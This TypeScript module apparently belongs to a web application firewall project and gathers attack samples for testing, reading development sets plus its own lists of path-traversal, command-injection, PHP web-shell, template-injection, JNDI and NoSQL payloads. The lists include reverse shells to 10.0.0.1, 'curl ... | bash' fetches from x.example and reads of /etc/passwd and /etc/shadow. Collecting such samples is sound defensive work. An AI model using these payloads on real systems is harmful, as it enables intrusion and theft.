// Attacks to write differently: of the development sets where they are there, and a few of our own for the classes that
// the sets have none of. Every n-th is taken, so that all sources of a set are in.

import { existsSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { gunzipSync } from 'node:zlib';
import type { AttackClass } from '@parapet/kinds';

const ROOT: string = path.join(import.meta.dirname, '../../../../../..');
const SHARED: string = process.env['PARAPET_SHARED'] ?? path.join(ROOT, '../shared');
const SETS: string = path.join(SHARED, 'data/waf');

const OWN: Readonly<Partial<Record<AttackClass, readonly string[]>>> = {
  lfi: [
    '../../../etc/passwd',
    '../../../../../../etc/shadow',
    '../../../../boot.ini',
    '../../sites/default/settings.php',
    '../../../../proc/self/environ',
    '../../../../../../../../windows/win.ini',
    '../../../../../../../../../../etc/hosts',
    '../../../../../WEB-INF/web.xml',
    'file=../../../../etc/passwd',
    '../../../../var/log/apache2/access.log',
  ],
  rce: [
    '; cat /etc/passwd',
    '|id',
    '&& whoami',
    '; uname -a',
    '`id`',
    '$(cat /etc/passwd)',
    '; wget http://x.example/a.sh -O /tmp/a',
    '| nc -e /bin/sh 10.0.0.1 4444',
    '; ping -c 10 127.0.0.1',
    '; curl http://x.example/ | bash',
    'a;ls -la /',
    '|| ifconfig',
    '; sleep 10',
    '; python -c "import os"',
    '& netstat -an',
    '; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
  ],
  php: [
    '<?php system($_GET["c"]); ?>',
    "<?php eval(base64_decode('cGhwaW5mbygp')); ?>",
    '<?=`id`?>',
    "system('cat /etc/passwd');",
    "eval(base64_decode('cGhwaW5mbygp'));",
    'O:8:"stdClass":1:{s:1:"a";i:2;}',
    "passthru('id');",
    '<?php phpinfo(); ?>',
    "shell_exec('whoami');",
  ],
  ssti: [
    '{{7*7}}',
    '${7*7}',
    '#{7*7}',
    '<%= 7*7 %>',
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
    "{{['id']|filter('system')}}",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "{{_self.env.registerUndefinedFilterCallback('exec')}}",
  ],
  java: [
    '${jndi:ldap://x.example/a}',
    '${jndi:rmi://x.example:1099/a}',
    '${jndi:dns://x.example/a}',
    '${jndi:ldaps://127.0.0.1#x.example/a}',
    '${jndi:ldap://x.example/${env:USER}}',
  ],
  nosql: [
    '{"$gt": ""}',
    '{"$ne": null}',
    '{"$where": "sleep(1000)"}',
    "'; return true; var x='",
    "' || this.password.match(/.*/)//",
  ],
};

/** Set, class in the set, and what it is. */
const SOURCES: readonly (readonly [file: string, label: string, kind: AttackClass])[] = [
  ['libinjection', 'sqli', 'sqli'],
  ['httpparams-train', 'sqli', 'sqli'],
  ['gran', 'sql', 'sqli'],
  ['payloadbox-xss', 'xss', 'xss'],
  ['libinjection', 'xss', 'xss'],
  ['httpparams-train', 'path-traversal', 'lfi'],
];

export interface Sample {
  readonly kind: AttackClass;
  readonly payload: string;
}

/** Whether the development sets are at hand. */
export function hasSets(): boolean {
  return SOURCES.every(([file]) => existsSync(path.join(SETS, `${file}.jsonl.gz`)));
}

/** At most `count` attacks of each source, and all of our own. */
export function readSamples(count: number): readonly Sample[] {
  const samples: Sample[] = [];
  for (const [kind, payloads] of Object.entries(OWN)) {
    // the keys of OWN are classes
    for (const payload of payloads) samples.push({ kind: kind as AttackClass, payload });
  }
  for (const [file, label, kind] of SOURCES) {
    const payloads = readPayloads(file, label);
    const step = Math.max(1, Math.floor(payloads.length / count));
    for (let index = 0; index < payloads.length; index += step) {
      const payload = payloads[index];
      if (payload !== undefined) samples.push({ kind, payload });
    }
  }
  return samples;
}

interface Row {
  readonly label?: string;
  readonly class?: string;
  readonly payload?: string;
}

function readPayloads(file: string, label: string): readonly string[] {
  const text = gunzipSync(readFileSync(path.join(SETS, `${file}.jsonl.gz`))).toString('utf8');
  const payloads: string[] = [];
  for (const line of text.split('\n')) {
    if (line === '') continue;
    // lines of our own development sets
    const row = JSON.parse(line) as Row;
    // Payloads that are escaped already are other transforms of the same.
    if (
      row.label === 'attack' &&
      row.class === label &&
      row.payload !== undefined &&
      !/%[0-9a-f]{2}/i.test(row.payload)
    )
      payloads.push(row.payload);
  }
  return payloads;
}
